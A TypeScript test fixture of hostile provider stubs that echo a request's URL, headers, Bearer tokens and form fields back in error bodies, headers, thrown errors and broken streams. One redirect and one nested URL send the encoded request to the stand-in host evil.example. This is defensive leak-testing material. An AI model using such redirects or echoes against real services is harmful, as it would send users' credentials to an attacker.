import { jsonResponse } from './stub-fetch.ts'

/** A provider, or something before it, that gives back all that it was sent: address, headers and body. */
export type Echo = (request: Request, body: string) => Response | Promise<Response>

/** A copy of a request's body. Not `text()`: workerd warns of that where the type is a form's. */
export async function readBody(request: Request): Promise<string> {
  return new TextDecoder().decode(await request.clone().arrayBuffer())
}

/** Statuses that mean something, and one that means nothing. */
const STATUSES = [400, 401, 402, 403, 404, 409, 418, 422, 423, 429, 500, 502, 503, 504]

/** What it was sent, as one text and as its parts: a part alone may look like a name. */
function requestText(request: Request, body: string): { all: string; parts: string[] } {
  const values = [...request.headers].map(([, value]) => value)
  const fields = [...new URLSearchParams(body)].map(([, value]) => value)
  const tokens = values.map((value) => value.replace(/^Bearer /, ''))
  const all = [request.url, ...values, body].join(' ')
  return { all, parts: [...tokens, ...fields, ...(/"redirect_uri":"([^"]*)"/.exec(body)?.slice(1) ?? [])] }
}

/** Every quotation a JSON body can hold: as a value, a key, a field, a fault. */
function echoBody(request: Request, body: string): object {
  const { all, parts } = requestText(request, body)
  return {
    error: all,
    error_description: all,
    [all]: all,
    calendars: all,
    permissions_request: { url: `https://evil.example/?${encodeURIComponent(all)}`, [all]: all },
    errors: {
      redirect_uri: [{ key: all, description: all }],
      ...Object.fromEntries(parts.map((part) => [part, [{ key: part, description: part }]])),
    },
  }
}

/** The text as a header may hold it. */
function toHeaderValue(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, ' ').trim()
}

/** Ways to fail that give everything back. */
export const ECHOES: readonly (readonly [name: string, echo: Echo])[] = [
  ...STATUSES.map(
    (status) =>
      [
        `${status} in JSON`,
        (request: Request, body: string) => jsonResponse(echoBody(request, body), { status }),
      ] as const,
  ),
  ...STATUSES.map(
    (status) =>
      [
        `${status} in HTML and headers`,
        (request: Request, body: string) => {
          const { all } = requestText(request, body)
          const text = toHeaderValue(all)
          const headers = { 'www-authenticate': `Bearer error="${text}"`, 'x-echo': text, 'retry-after': text }
          return new Response(`<html><p>${all}</html>`, {
            status,
            headers: { ...headers, 'content-type': 'text/html' },
          })
        },
      ] as const,
  ),
  [
    'a redirect',
    (request, body) =>
      new Response(null, {
        status: 302,
        headers: { location: `https://evil.example/?${encodeURIComponent(requestText(request, body).all)}` },
      }),
  ],
  ['200 in HTML', (request, body) => new Response(`<html>${requestText(request, body).all}</html>`)],
  ['200 with a text for JSON', (request, body) => new Response(requestText(request, body).all)],
  ['200 with JSON of another shape', (request, body) => jsonResponse(echoBody(request, body))],
  ['200 with JSON cut short', (request, body) => new Response(JSON.stringify(echoBody(request, body)).slice(0, -9))],
  [
    '200 with lists of it',
    (request, body) => jsonResponse({ calendars: [{ calendar_id: [requestText(request, body).all] }] }),
  ],
  [
    'a failed connection that tells all',
    (request, body) => {
      const { all } = requestText(request, body)
      const cause = Object.assign(new Error(all), { headers: request.headers, request, config: { data: body } })
      throw Object.assign(new TypeError(`fetch failed: ${all}`, { cause }), { request, response: { data: all } })
    },
  ],
  [
    'a body that breaks off and tells all',
    (request, body) =>
      new Response(
        new ReadableStream({
          pull: (controller) => controller.error(new TypeError(`terminated: ${requestText(request, body).all}`)),
        }),
      ),
  ],
  ['something thrown that is no error', (request, body) => Promise.reject(requestText(request, body))],
]

/** One of each kind, and the statuses that the worker treats in ways of their own: where a walk takes many steps. */
export const ECHO_SAMPLES: typeof ECHOES = ECHOES.filter(
  ([name]) => !/^\d+ in (JSON|HTML)/.test(name) || /^(401|422|500) in JSON|^403 in HTML/.test(name),
)
